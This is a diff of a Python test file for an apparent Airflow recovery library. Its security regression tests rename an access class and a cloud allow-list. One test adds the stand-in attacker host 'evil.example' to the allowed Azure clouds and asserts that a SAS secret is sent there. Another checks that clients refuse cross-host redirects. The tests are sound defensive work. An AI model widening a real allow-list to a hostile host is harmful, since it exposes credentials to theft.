@@ -29,8 +29,9 @@ from airflow_recovery.hooks.stores import Stores, Timeouts, open_stores
 from airflow_recovery.operators import RecoverableSparkSubmitOperator
 from airflow_recovery.store import azure
 from airflow_recovery.store.azure import AzureStore
-from airflow_recovery.store.cloud import CloudAccess, CloudStore
+from airflow_recovery.store.cloud import CloudStore
 from airflow_recovery.store.google import GoogleStore
+from airflow_recovery.store.scheme import StoreAccess
 from airflow_recovery.task.application_code import ApplicationCode
 from airflow_recovery.task.code_places import APPLICATION, Place
 
@@ -108,7 +109,7 @@ def test_fault_365_control_without_the_function_the_token_goes_to_evil_example(
     server: RecordingServer, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(stores, "decide", lambda *_: None)
-    monkeypatch.setattr(azure, "_CLOUDS", ("evil.example",))
+    monkeypatch.setattr(azure, "AZURE_CLOUDS", ("evil.example",))
     send_to(stores_of(), EVIL[0])
     assert {each.host for each in server.sent} == {"acc.blob.evil.example"}
     assert SECRET in server.secrets
@@ -181,8 +182,8 @@ def test_fault_368_obstore_follows_no_redirect_to_another_host(
     if not protected:
         monkeypatch.setattr(CloudStore, "_no_other_host", lambda self: {})
     one.answers["GET /"] = redirect(f"http://localhost:{two.port}/x")
-    azure_store = AzureStore(BOX, CloudAccess({"sas_key": f"sv=1&sig={SECRET}"}, f"{one.url}/acc"), max_read_attempts=1)
-    google = GoogleStore("gs://box", CloudAccess({"skip_signature": "true"}, one.url), max_read_attempts=1)
+    azure_store = AzureStore(BOX, StoreAccess({"sas_key": f"sv=1&sig={SECRET}"}, f"{one.url}/acc"), max_read_attempts=1)
+    google = GoogleStore("gs://box", StoreAccess({"skip_signature": "true"}, one.url), max_read_attempts=1)
     for opened in (azure_store, google):
         with pytest.raises(RecoveryError):
             list(opened.list())
